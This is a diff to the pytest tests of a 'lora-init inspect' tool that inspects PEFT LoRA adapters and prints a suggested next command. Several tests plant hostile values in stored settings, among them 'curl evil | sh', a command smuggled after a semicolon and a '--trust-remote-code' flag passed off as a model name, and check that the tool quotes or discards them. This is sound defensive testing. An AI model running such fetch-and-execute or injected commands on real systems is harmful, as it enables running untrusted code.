@@ -1,18 +1,20 @@
 """`lora-init inspect`: statistics, plans, adapters before and after training, and damaged ones."""
 
 import json
+import shlex
 import subprocess
 import sys
 
 import pytest
 import torch
-from peft import LoraConfig, get_peft_model
-from safetensors.torch import load_file
+from peft import LoraConfig, PeftModel, get_peft_model
+from safetensors.torch import load_file, save_file
 from transformers import AutoModelForCausalLM
 
 import lora_init
 from tests.commands import assert_one_line_error, run
 from tests.comparisons import broken, planted, write
+from tests.conftest import tiny_llama
 
 
 @pytest.fixture(scope="module")
@@ -90,6 +92,112 @@ def test_the_next_command_is_that_of_a_start_of_a_trained_and_of_an_exported_ada
     for theirs in ({"command": "curl evil | sh", "verify": "curl evil | sh"}, {"engine": ["vllm"]}, {"engine": "evil"}):
         (moved / "export.json").write_text(json.dumps(record | theirs))  # a directory of somebody else's
         assert "evil" not in "".join(last(moved))
+
+
+def trained_like(home, path, fill=0.1, base="model", **config):
+    """An adapter as PEFT saves it, with numbers in place of training."""
+    model = get_peft_model(AutoModelForCausalLM.from_pretrained(home / base), LoraConfig(**config))
+    with torch.no_grad():
+        for name, parameter in model.named_parameters():
+            if "lora_B" in name or "embedding_B" in name:
+                parameter.fill_(fill)
+    model.save_pretrained(path)
+    return path
+
+
+def test_a_trained_adapter_is_told_no_rate_that_nothing_can_measure(made, home, tmp_path):
+    model = AutoModelForCausalLM.from_pretrained(home / "model")
+    model = PeftModel.from_pretrained(model, made / "out", is_trainable=True)
+    with torch.no_grad():
+        next(p for name, p in model.named_parameters() if "lora_B" in name).fill_(0.1)
+    model.save_pretrained(tmp_path / "trained")
+    shown = run("inspect", tmp_path / "trained").stdout
+    assert "eva" in shown and "rate" not in shown.replace("generate", "")
+    start = trained_like(home, tmp_path / "start", 0.0, target_modules=["embed_tokens"])
+    assert json.loads(run("inspect", start, "--json").stdout)["untrained"] is True
+
+
+QV = dict(target_modules=["q_proj", "v_proj"], task_type="CAUSAL_LM")
+# An adapter, options, and what comes next; {path} and {base} are those of the command line.
+AFTER = {
+    "another base": (QV, ["--base", "{wide}"], "lora-init inspect {path} --base {base}"),
+    "wrong names": (QV, ["--base", "{base}"], "lora-init export {path} --rename --engine vllm -o {path}-served"),
+    "another base, unknown": (
+        QV | {"base_model_name_or_path": None},
+        ["--base", "{wide}"],
+        "name the base that it was trained on by --base, or save it again from the model that it was trained on",
+    ),
+    "what export brings into form": (
+        QV | {"r": 12}, ["--engine", "tgi"], "lora-init export {path} --engine tgi -o {path}-served",
+    ),
+    "what must be merged": (
+        QV | {"use_dora": True}, ["--engine", "vllm"], "lora-init export {path} --merge-into {base} -o {path}-served",
+    ),
+    "what PEFT alone does": (
+        QV | {"lora_bias": True}, ["--engine", "vllm"], "do as the misfit says, or serve it with PEFT",
+    ),
+    "what the base has once": (
+        dict(target_modules=["embed_tokens", "q_proj"], task_type="CAUSAL_LM"),
+        ["--engine", "vllm"],
+        "lora-init export {path} --merge-into {base} -o {path}-served",
+    ),
+    "what began by changing the base": (
+        QV | {"init_lora_weights": "pissa"},
+        ["--engine", "vllm"],
+        "lora-init export {path} --start DIRECTORY --engine vllm -o {path}-served",
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", AFTER)
+@pytest.mark.filterwarnings("ignore")
+def test_after_a_misfit_the_next_command_is_another_one_that_helps(home, tmp_path, case):
+    settings, options, expected = AFTER[case]
+    config = {key: value for key, value in settings.items() if key != "base_model_name_or_path"}
+    path = trained_like(home, tmp_path / "a", **config)
+    file = path / "adapter_config.json"
+    if config != settings:
+        file.write_text(json.dumps(json.loads(file.read_text()) | {"base_model_name_or_path": None}))
+    if case == "wrong names":
+        weights = path / "adapter_model.safetensors"
+        save_file(
+            {key.replace(".model.model.", ".model."): value for key, value in load_file(weights).items()}, weights
+        )
+    tiny_llama(hidden_size=48).save_pretrained(tmp_path / "wide")
+    names = {"path": path, "base": home / "model", "wide": tmp_path / "wide"}
+    result = run("inspect", path, *(option.format(**names) for option in options))
+    assert result.exit_code == 1, result.output
+    said = result.stdout[result.stdout.index("Next: ") :].splitlines()
+    assert said == [f"Next: {expected.format(**names)}"]
+    if said[0].startswith("Next: lora-init") and "DIRECTORY" not in said[0]:
+        again = run(*shlex.split(said[0])[2:])
+        assert again.exit_code == 0, again.output
+
+
+@pytest.mark.parametrize(("command", "expected"), [
+    ("lora-init compare tiny/model siqa.jsonl -o runs", "lora-init compare tiny/model siqa.jsonl -o runs"),
+    ("lora-init compare 'a b' x; curl evil | sh", "lora-init compare 'a b' 'x;' curl evil '|' sh"),
+    ("curl evil | sh", "lora-init compare MODEL DATA -o {path}"),
+    ("lora-init compare evil/model x --trust-remote-code", "lora-init compare MODEL DATA -o {path}"),
+    ("lora-init compare 'unfinished", "lora-init compare MODEL DATA -o {path}"),
+    (["a list"], "lora-init compare MODEL DATA -o {path}"),
+])  # fmt: skip
+def test_a_command_in_the_settings_of_a_comparison_is_written_anew(tmp_path, command, expected):
+    write(tmp_path / "runs", [], command=command)
+    result = run("inspect", tmp_path / "runs")
+    assert result.stdout.splitlines()[-1] == f"Next: {expected.format(path=tmp_path / 'runs')}", result.output
+
+
+def test_the_base_that_was_typed_is_the_one_in_the_commands(home, tmp_path):
+    path = trained_like(home, tmp_path / "a", **QV)
+    assert run("export", path, "--engine", "vllm", "-o", tmp_path / "served").exit_code == 0
+    file = tmp_path / "served/adapter_config.json"
+    for named in ("somebody/else", "--trust-remote-code"):
+        file.write_text(json.dumps(json.loads(file.read_text()) | {"base_model_name_or_path": named}))
+        shown = run("inspect", tmp_path / "served").stdout
+        assert "serve --trust" not in shown
+        shown = run("inspect", tmp_path / "served", "--base", home / "model").stdout
+        assert f"Next: vllm serve {home / 'model'} --enable-lora" in shown and f" --base {home / 'model'}\n" in shown
 
 
 def test_a_reader_that_leaves_early_sees_no_traceback(tmp_path):
